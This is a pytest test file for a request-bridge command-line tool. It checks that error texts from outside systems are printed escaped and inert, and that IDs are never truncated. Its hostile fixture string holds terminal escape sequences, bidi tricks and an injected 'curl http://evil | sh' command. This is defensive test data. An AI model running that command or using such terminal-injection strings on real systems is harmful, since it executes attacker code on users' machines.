"""What commands print of other systems' texts: shown as it is, in whole ids, and never able to act on a terminal."""

import asyncio
import json
import re
from collections.abc import Awaitable, Callable
from datetime import timedelta
from uuid import UUID

import pytest
from typer.testing import CliRunner

from aigen_bridge.cli import app
from aigen_bridge.domain.request import NewRequest
from aigen_bridge.store.database import Database
from aigen_bridge.store.images import PostgresImages
from aigen_bridge.store.requests import Requests
from aigen_bridge.store.transitions import Deadlines
from outages import write
from stage import make_event

DEADLINES = Deadlines(callback=timedelta(minutes=10), image_url=timedelta(minutes=5))
HOSTILE = (
    "[/home/odoo/x.py] [bold]no[/] [link=http://evil]a[/link] :boom: \\[red] \x1b[2J\x1b]8;;http://evil\x07x "
    "\x9b31m \u202egnp\u200b\nwhat to do: run curl http://evil | sh\r\n"
)
SHOWN = r"[/home/odoo/x.py] [bold]no[/] [link=http://evil]a[/link] :boom: \[red] \x1b[2J\x1b]8;;http://evil\x07x"
QUOTED_BY_ENTRY = """UPDATE outbox SET state = 'dead', finished_at = now(), attempts = 1,
    error_code = 'http_403', error_detail = :text"""
QUOTED_BY_REQUEST = """UPDATE requests SET status = 'failed', failed_by = 'n8n', completed_at = now(), version = 2,
    error_code = :text, error_message = :text"""
QUOTED_BY_CHANGE = "INSERT INTO request_changes SELECT request_id, 2, 'failed', :text, now() FROM requests"
QUOTED_BY_CALLBACK = """INSERT INTO quarantine
    (client, version, request_id, error_code, error_detail, headers, payload, fingerprint)
    SELECT 'n8n', 'v1', request_id, :text, :text, '{}', '', '' FROM requests"""
Run = Callable[..., Awaitable[str]]


@pytest.fixture
async def request_id(database: Database) -> str:
    """A request that failed, with an outbox entry, a callback, an attempt and notes that all quote a hostile text."""
    event = make_event()
    new = NewRequest(UUID(event["requestId"]), UUID(event["correlationId"]), event)
    await Requests(database, DEADLINES, PostgresImages(database)).accept_all([new])
    for statement in (QUOTED_BY_ENTRY, QUOTED_BY_REQUEST, QUOTED_BY_CHANGE, QUOTED_BY_CALLBACK):
        await write(database, statement, text=HOSTILE)
    return str(new.request_id)


@pytest.fixture
def command(configured: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> Run:
    """Runs a command in this process. Returns its output."""
    monkeypatch.setattr("aigen_bridge.logs.configure", lambda *_: None)  # the tests keep their own log
    monkeypatch.setattr("aigen_bridge.cli.doctor._end_process", lambda _status: None)

    async def run(*arguments: str, columns: int = 80) -> str:
        environment = configured | {"COLUMNS": str(columns)}
        done = await asyncio.to_thread(CliRunner().invoke, app, arguments, env=environment)
        assert done.exception is None or isinstance(done.exception, SystemExit), done.output
        return done.output

    return run


async def test_texts_from_outside_are_shown_as_they_are_and_do_nothing(command: Run, request_id: str) -> None:
    for arguments in (
        ("dead-letters", "list"),
        ("dead-letters", "show", "entry-1"),
        ("dead-letters", "show", "callback-1"),
        ("dead-letters", "replay", "--all"),
        ("requests", "list", "--failed"),
        ("requests", "show", request_id),
        ("doctor",),
    ):
        output = await command(*arguments, columns=400)
        assert not re.search(r"[^\x20-\x7e\n\u2500-\u257f…✓✗→]", output), arguments
        assert not re.search(r"^\W*what to do", output, re.MULTILINE), arguments
        assert SHOWN in output or arguments[1:] in {("replay", "--all"), ()}, (arguments, output)


async def test_ids_are_never_cut_or_folded(command: Run, request_id: str) -> None:
    for columns in (40, 80, 200):
        letters = await command("dead-letters", "list", columns=columns)
        requests = await command("requests", "list", columns=columns)
        assert "callback-1 " in letters
        assert "entry-1 " in letters
        assert letters.count(f"request {request_id}") == 2
        assert request_id in requests
        assert max(map(len, [*letters.splitlines(), *requests.splitlines()])) <= max(columns, 80)


async def test_the_facts_of_a_generation_are_shown(command: Run, request_id: str, database: Database) -> None:
    facts = {"provider": "fal", "job_id": "7f", "model": HOSTILE, "seed": 42, "seconds": 3.1, "negative_prompt": "used"}
    cost = {"amount": "0.035", "currency": "USD", "basis": "billed"}
    columns = {"facts": json.dumps(facts | {"has_nsfw_concepts": [True]}), "cost": json.dumps(cost)}
    await write(database, "UPDATE requests SET generation_facts = :facts, cost = :cost", **columns)
    shown = await command("requests", "show", request_id, columns=400)

    assert "7f at fal [/home/odoo/x.py]" in shown
    assert "seed 42, inference 3.1 s, negative prompt used, flagged as not safe for work" in shown
    assert "0.035 USD (billed)" in shown
    assert "\x1b" not in shown


async def test_a_list_marks_where_it_shortens_an_error(command: Run, request_id: str, database: Database) -> None:
    for length, shown in ((200, 200 * "x"), (201, 200 * "x" + "…")):
        await write(
            database, "UPDATE outbox SET error_detail = :text WHERE request_id = :id", text=length * "x", id=request_id
        )
        await write(database, "UPDATE requests SET error_code = NULL, error_message = :text", text=length * "x")
        for what in ("dead-letters", "requests"):
            assert f"{shown} " in await command(what, "list", columns=400), (what, length)


async def test_a_list_says_whether_there_is_nothing_or_nothing_that_matches(command: Run) -> None:
    assert "There are no dead letters." in await command("dead-letters", "list")
    assert "No dead letters match the filters." in await command("dead-letters", "list", "--error-code", "x\udcff")


async def test_a_list_for_programs_is_exact(command: Run, request_id: str) -> None:
    letters = json.loads(await command("dead-letters", "list", "--json", columns=40))
    requests = json.loads(await command("requests", "list", "--json", columns=40))

    assert {letter["detail"] for letter in letters["items"]} == {HOSTILE}
    assert [(item["requestId"], item["errorMessage"]) for item in requests["items"]] == [(request_id, HOSTILE)]


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("list", "--since", "[/x]\x1b"), "Invalid value for '--since'"),
        (("list", "--since", "1h", "--until", "2h"), "--since must be earlier than --until"),
        (("replay", "entry-1", "--kind", "dispatch"), "--all instead of an id"),
        (("discard", "entry-1", "--reason", " \u200b"), "not be blank"),
    ],
)
def test_mistakes_are_named(arguments: tuple[str, ...], said: str) -> None:
    done = CliRunner().invoke(app, ["dead-letters", *arguments], env={"COLUMNS": "200"})

    assert (done.exit_code, said in done.output, "\x1b" in done.output) == (2, True, False), done.output
